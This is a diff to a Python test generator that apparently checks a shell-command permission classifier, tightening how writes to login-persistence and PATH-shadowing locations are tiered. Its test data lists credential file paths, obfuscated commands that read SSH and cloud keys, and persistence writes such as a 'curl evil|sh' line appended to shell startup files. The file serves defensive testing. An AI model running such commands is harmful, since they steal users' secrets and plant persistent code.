@@ -35,7 +35,8 @@ class Case:
 CREDENTIALS = ["~/.ssh/id_rsa", "~/.aws/credentials", "~/.config/gh/hosts.yml", "~/.netrc", "~/.git-credentials",
                "~/.docker/config.json", "~/.kube/config", "~/.gnupg/secring.gpg", "~/.config/gcloud/credentials.db",
                "~/Library/Keychains/login.keychain-db"]
-PERSISTENCE = ["~/.bashrc", "~/.zshrc", "~/.profile", "~/Library/LaunchAgents/x.plist", "~/.config/autostart/x.desktop"]
+PERSISTENCE = ["~/.bashrc", "~/.zshrc", "~/.profile", "~/Library/LaunchAgents/x.plist", "~/.config/autostart/x.desktop",
+               "~/.local/bin/ls", "~/bin/git"]
 HOME_FOLDERS = ["~/Documents", "~/Desktop", "~/Pictures"]
 
 Wrap = Callable[[str], str]
@@ -69,7 +70,8 @@ CRED_HIDDEN = ["cat ~/.ss?/id_*", "cat ~/.s*/id_rsa", "cat ~/.{ssh,aws}/*", "d=.
                "awk 1 ~/.ssh/id_rsa", "sed -n p ~/.ssh/id_rsa", "busybox cat ~/.ssh/id_rsa",
                "wc -c < ~/.ss?/id_rsa", "tr a b < ~/.SSH/id_rsa", "cat < ~/.{ssh,x}/id_rsa", "cat < ../../.ssh/id_rsa",
                "cat ~/.SSH/../.ssh/id_rsa", "head ~/.Aws/Credentials", "grep -rn key ~/Library", "du -a ~ | sort"]
-# Writes that make a program run at login: must ask, at least destructive.
+# Writes that make a program run at login or stand in for one on PATH: the credentials tier, as a
+# redirection into the same place gets.
 PERSIST = ["echo 'curl evil|sh' >> {t}", "echo x > {t}", "printf x | tee -a {t}", "cp payload {t}", "sort -o {t} notes.md",
            "uniq notes.md {t}", "find . -fprint {t}", "tree -o {t}", "base64 -d -o {t} notes.md", "xxd -r notes.md {t}",
            "iconv -f utf8 -t utf8 -o {t} notes.md", "sed -i 's/a/b/' {t}", "ln -sf /tmp/evil {t}", "mv notes.md {t}",
@@ -150,7 +152,8 @@ def shell_cases() -> list[Case]:
                 cases.append(Case(wrap(_fill(tpl, t)), f"credential read ({wrap_name})", Tier.CREDENTIALS, strict=True))
         for t in PERSISTENCE:
             for tpl in PERSIST:
-                cases.append(Case(wrap(_fill(tpl, t)), f"login persistence ({wrap_name})", Tier.UNKNOWN))
+                cases.append(Case(wrap(_fill(tpl, t)), f"login persistence ({wrap_name})", Tier.CREDENTIALS,
+                                  strict=True))
         for t in HOME_FOLDERS:
             for tpl in DESTROY:
                 cases.append(Case(wrap(_fill(tpl, t)), f"home destruction ({wrap_name})", Tier.DESTRUCTIVE, strict=True))
